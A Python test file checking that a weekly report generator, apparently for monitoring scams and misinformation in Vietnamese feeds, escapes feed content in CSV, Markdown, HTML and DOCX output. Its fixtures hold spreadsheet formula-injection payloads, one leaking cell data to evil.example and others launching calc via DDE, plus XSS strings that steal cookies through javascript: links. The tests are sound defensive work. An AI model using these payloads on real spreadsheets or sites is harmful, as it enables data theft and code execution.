"""Reports never fail on content and carry nothing that runs: spreadsheet formulas, HTML, Markdown
links and control characters from feeds (issue 13), and no empty value printed as nan/None."""

from __future__ import annotations

import csv
import functools
import io
import re
from datetime import UTC, datetime, timedelta

import lxml.html
import pandas as pd
import pytest
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from sqlalchemy.orm import Session

from core.calendar import Week
from core.tables import ReviewTask, TaskStatus, Verdict
from report import safe
from report.formats import build, charts, render_docx, render_html
from report.loading import COLUMNS
from report.weekly import render_csv, render_markdown, summarize
from tests.factories import make_analysis, make_feed, make_item, make_user

WEEK = Week.parse("2026-W48")
MON = datetime(2026, 11, 23, 3, 0, tzinfo=UTC)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
# Any character, often one that means something to CSV, HTML, Markdown, links or XML.
CHARS = st.one_of(
    st.sampled_from(list("<>&|[]()`*_~!#\\=+-@:/.\t\r\n\x00\x0b\x1f\x7f")), st.characters()
)
# GFM-like Markdown (tables, strikethrough, bare links made links, raw HTML allowed): the most
# permissive common renderer, where anything from a feed would show its effect.
MARKDOWN = MarkdownIt("gfm-like")


@functools.cache
def _images() -> dict[str, bytes]:
    """The charts, drawn once (they show counts only, never content)."""
    return charts(summarize(_frame(["x"])))


def _confirmed(session: Session, reviewer_id: int, verdict: str, **kw: object) -> None:
    reasons = kw.pop("reasons", [])
    item = make_item(session, published_at=MON, **kw)
    analysis = make_analysis(session, item, misinfo=verdict, reasons=reasons)
    task = ReviewTask(
        item_id=item.id, analysis_id=analysis.id, status=TaskStatus.decided, priority=0.9
    )
    session.add(task)
    session.flush()
    session.add(Verdict(task_id=task.id, reviewer_id=reviewer_id, label=verdict))
    session.flush()


# --- 1. CSV injection -------------------------------------------------------------------------


def _xml_legal(c: str) -> bool:
    """XML 1.0's Char production."""
    n = ord(c)
    return c in "\t\n\r" or 0x20 <= n <= 0xD7FF or 0xE000 <= n <= 0xFFFD or n >= 0x10000


def _runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


def test_csv_cells_from_feeds_never_start_a_formula(session: Session) -> None:
    reviewer = make_user(session, "ctv-csv")
    for n, formula in enumerate(FORMULAS):
        _confirmed(
            session,
            reviewer.id,
            "scam",
            source=formula,
            title=f"{formula} ({n})",
            text=formula + " nhận quà",
        )
    data = build(session, WEEK, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert len(rows) == len(FORMULAS)
    for n, (row, formula) in enumerate(zip(rows, FORMULAS, strict=True)):
        for column in ("source", "title", "excerpt"):
            assert not _runs_as_formula(row[column]), (column, row[column])
        # the value is kept whole behind the quote
        assert row["source"] == "'" + formula
        assert row["title"] == f"'{formula} ({n})"
        assert row["excerpt"] == "'" + formula + " nhận quà"
        # numbers stay numbers
        assert int(row["item_id"]) > 0
        assert float(row["risk"]) == 0.9
        assert row["source_count"] == "1"


def test_csv_numbers_stay_numbers_and_blanks_stay_blank() -> None:
    frame = pd.DataFrame(
        {"score": [-2.5, 3.0], "n": [-2, 3], "text": ["-2", None], "flag": [True, None]}
    )
    rows = list(csv.reader(io.StringIO(render_csv(frame), newline="")))
    assert rows == [
        ["score", "n", "text", "flag"],
        ["-2.5", "-2", "'-2", "True"],
        ["3.0", "3", "", ""],
    ]


@given(st.text(CHARS))
def test_csv_value_neutralises_any_text_and_keeps_it(text: str) -> None:
    cell = safe.csv_value(text)
    assert isinstance(cell, str)
    kept = "".join(c for c in text if _xml_legal(c) and not 0x7F <= ord(c) <= 0x9F)
    if _runs_as_formula(kept) or kept[:1] == "\n":
        assert cell == "'" + kept
    else:
        assert cell == kept
    assert not _runs_as_formula(cell)


# --- 2. Markdown: no HTML, no link but http(s), no broken table --------------------------------

HOSTILE = [
    "<script>alert(1)</script> <b>đậm</b> &amp; <img src=x onerror=alert(1)>",
    "[Bấm vào đây](javascript:alert(document.cookie)) ![x](javascript:alert(1))",
    "<javascript:alert(1)> <data:text/html;base64,PHNjcmlwdD4=> mailto:a@b.vn",
    "cột | chèn | thêm || ô",
    "**đậm** _nghiêng_ ~~gạch~~ `mã` \\ # tiêu đề",
    "liên hệ lua.dao@evil.example hoặc ftp://evil.example/x hoặc vbscript:msgbox(1)",
    "https://chinhphu.vn/thong-bao?a=1&b=<2>",
]


def _rendered_table(md: str, header: str) -> list[list[lxml.html.HtmlElement]]:
    """The body cells of the rendered table that has a column headed ``header``."""
    root = lxml.html.fromstring(f"<div>{MARKDOWN.render(md)}</div>")
    for table in root.iter("table"):
        if header in [th.text_content() for th in table.iter("th")]:
            return [list(tr.iter("td")) for tr in table.iter("tr") if tr.find("td") is not None]
    raise AssertionError(f"no table headed {header!r}")


def _only_safe_markup(md: str) -> None:
    html = MARKDOWN.render(md)
    root = lxml.html.fromstring(f"<div>{html}</div>")
    tags = {el.tag for el in root.iter() if isinstance(el.tag, str)}
    # h1–h3: the report's own title, sections and their parts (feed text never makes one)
    allowed = {"div", "h1", "h2", "h3", "p", "em", "strong", "ul", "li", "code", "a"}
    assert tags <= allowed | {"table", "thead", "tbody", "tr", "th", "td"}, tags
    for a in root.iter("a"):
        assert re.match(r"https?://", a.get("href", "")), a.get("href")


def test_markdown_report_escapes_feed_html_links_and_pipes(session: Session) -> None:
    reviewer = make_user(session, "ctv-md")
    for text in HOSTILE:
        _confirmed(session, reviewer.id, "scam", source=text[:150], title=text, text=text)
    make_feed(
        session,
        name="Kênh <b>x</b> | [a](javascript:alert(1))",
        error_count=1,
        last_error="<script>alert(1)</script>",
    )
    md = build(session, WEEK, "md").decode()
    _only_safe_markup(md)
    rows = _rendered_table(md, "Trích đoạn")
    assert len(rows) == len(HOSTILE)
    by_source = {row[1].text_content(): row for row in rows}
    for text in HOSTILE:
        row = by_source[safe.line(text[:150], 120)]
        assert len(row) == 6  # no | of the text split the row
        assert row[4].text_content() == safe.line(text, 160)  # shown as written, nothing lost
    assert (
        "Kênh <b>x</b> | [a](javascript:alert(1))"
        in lxml.html.fromstring(MARKDOWN.render(md)).text_content()
    )


TEXT = st.text(CHARS, max_size=60)


@settings(max_examples=300, deadline=None)
@given(TEXT)
def test_any_text_renders_as_itself_in_a_markdown_table_and_a_list(text: str) -> None:
    md = (
        f"| a | b |\n|---|---|\n| {safe.markdown(text, table=True)} | x |\n\n"
        f"- **{safe.markdown(text)}**: “{safe.markdown(text)}”\n"
    )
    _only_safe_markup(md)
    cells = _rendered_table(md, "a")[0]
    expected = safe.line(text)
    assert [c.text_content() for c in cells] == [expected, "x"]
    item = lxml.html.fromstring(MARKDOWN.render(md)).find(".//li")
    assert item.text_content() == f"{expected}: “{expected}”"


# --- 3. every format renders any content -------------------------------------------------------


def _frame(texts: list[str]) -> pd.DataFrame:
    """A week whose every content field is one of ``texts``: two confirmed items (one without
    the fact it contradicts), two criticisms sharing a phrase (for the concerns), a pending flag."""
    when = pd.Timestamp("2026-11-24 10:00", tz="Asia/Ho_Chi_Minh")
    a, b, c, d = (texts * 4)[:4]

    def row(i: int, source: str, title: str, excerpt: str | None, **kw: object) -> dict:  # type: ignore[type-arg]
        return {
            "item_id": i,
            "source": source,
            "title": title,
            "excerpt": excerpt,
            "when": when,
            "relevant": True,
            "sentiment": "negative",
            "misinfo": "none",
            "risk": 0.1,
            "task_status": None,
            "verdict": None,
            "source_count": 1,
            "first_seen": when,
            "contradicts": None,
            **kw,
        }

    rows = [
        row(1, a, b, c, misinfo="scam", task_status="decided", verdict="scam", contradicts=d),
        row(2, b, c, None, misinfo="distortion", task_status="decided", verdict="distortion"),
        row(3, c, f"{a} cổng dịch vụ công {d}", d),
        row(4, d, f"{b} cổng dịch vụ công", a),
        row(5, a, d, b, misinfo="scam", task_status="pending", first_seen=pd.NaT),
    ]
    return pd.DataFrame(rows, columns=COLUMNS)


@pytest.mark.slow
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(CHARS, max_size=80), min_size=1, max_size=4))
def test_every_format_renders_any_content(texts: list[str]) -> None:
    frame = _frame(texts)
    summary = summarize(frame, frame)
    coverage = {"silent": texts, "failing": [f"{t}: {t}" for t in texts]}
    images = _images()

    html = render_html(summary, WEEK, coverage, images=images)
    root = lxml.html.fromstring(html.encode("utf-8"))
    cells = [len(tr.findall("td")) for tr in root.iter("tr") if tr.find("td") is not None]
    assert 6 in cells  # the confirmed table, intact
    assert not root.findall(".//script")

    doc = Document(io.BytesIO(render_docx(summary, WEEK, coverage, images=images)))
    confirmed = doc.tables[-1]  # distortion (no fact), then scam (contradicts the 4th text)
    assert len(confirmed.rows) == 3
    assert confirmed.rows[1].cells[5].text == "—"
    assert confirmed.rows[2].cells[5].text == safe.line((texts * 4)[3])

    md = render_markdown(summary, WEEK, coverage)
    md.encode("utf-8")
    _only_safe_markup(md)
    assert [len(row) for row in _rendered_table(md, "Trích đoạn")] == [6, 6]

    data = render_csv(frame).encode("utf-8")
    back = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(back) == 5
    for cell in (r[k] for r in back for k in ("source", "title", "excerpt", "contradicts")):
        assert not _runs_as_formula(cell)


CONTROLS = ["\x00", "\x0b", "\x1f", "\x0c", "\x7f", "\ufffe"]


def test_control_characters_in_feeds_break_no_format(session: Session) -> None:
    reviewer = make_user(session, "ctv-ctl")
    # PostgreSQL itself refuses NUL in text: the collector never stores one there
    controls = [c for c in CONTROLS if c != "\x00" or session.bind.dialect.name == "sqlite"]  # type: ignore[union-attr]
    for n, ch in enumerate(controls):
        _confirmed(
            session,
            reviewer.id,
            "distortion",
            source=f"Nguồn{ch}{n}",
            title=f"Tiêu đề{ch}{n}",
            text=f"Trích{ch}đoạn",
            reasons=[{"kind": "fact_mismatch", "fact": {"official": f"Chính{ch}thức"}}],
        )
    make_feed(session, name=f"Kênh{controls[-1]}", error_count=2, last_error=f"lỗi{controls[1]}")
    for fmt in ("html", "md", "csv", "docx"):
        out = build(session, WEEK, fmt)
        assert out
        assert not any(ch.encode() in out for ch in controls if fmt != "docx")
    doc = Document(io.BytesIO(build(session, WEEK, "docx")))
    cells = [c.text for row in doc.tables[-1].rows[1:] for c in row.cells]
    assert {f"Nguồn{n}" for n in range(len(controls))} <= set(cells)
    assert "Chính thức".replace(" ", "") in cells  # the character dropped, the words kept


# --- 5. no nan, None or NaT shown -------------------------------------------------------------


def test_no_empty_value_prints_as_nan_or_none(session: Session) -> None:
    reviewer = make_user(session, "ctv-nan")
    # a confirmed scam without an official fact, next to a distortion with one (a column with
    # text and gaps: pandas stores the gaps as NaN)
    _confirmed(session, reviewer.id, "scam", title="Nhập mã OTP", text="")
    _confirmed(
        session,
        reviewer.id,
        "distortion",
        reasons=[{"kind": "fact_mismatch", "fact": {"official": "Nghị quyết 57-NQ/TW"}}],
    )
    make_item(session, published_at=MON + timedelta(days=1), title="", text="")
    words = re.compile(r"\b(nan|NaN|None|NaT|null)\b")
    for fmt in ("html", "md", "csv"):
        text = build(session, WEEK, fmt).decode()
        assert not words.search(text), (fmt, words.search(text))
    doc = Document(io.BytesIO(build(session, WEEK, "docx")))
    texts = [p.text for p in doc.paragraphs] + [
        c.text for t in doc.tables for row in t.rows for c in row.cells
    ]
    assert not [t for t in texts if words.search(t)]
    scam = next(row for row in doc.tables[-1].rows if row.cells[0].text == "Lừa đảo")
    assert scam.cells[4].text == "Nhập mã OTP"  # no excerpt: the title
    assert scam.cells[5].text == "—"


def test_blank_values() -> None:
    for blank in (None, float("nan"), pd.NaT, pd.NA, "", "  \n"):
        assert safe.is_blank(blank)
        assert safe.plain(blank) == "—"
        assert safe.markdown(blank) == "—"
    for value in (0, 0.0, False, "0", "nan"):
        assert not safe.is_blank(value)
    assert safe.plain("a\ud800b\x00c\ufffe") == "abc"  # not even encodable, then illegal in XML
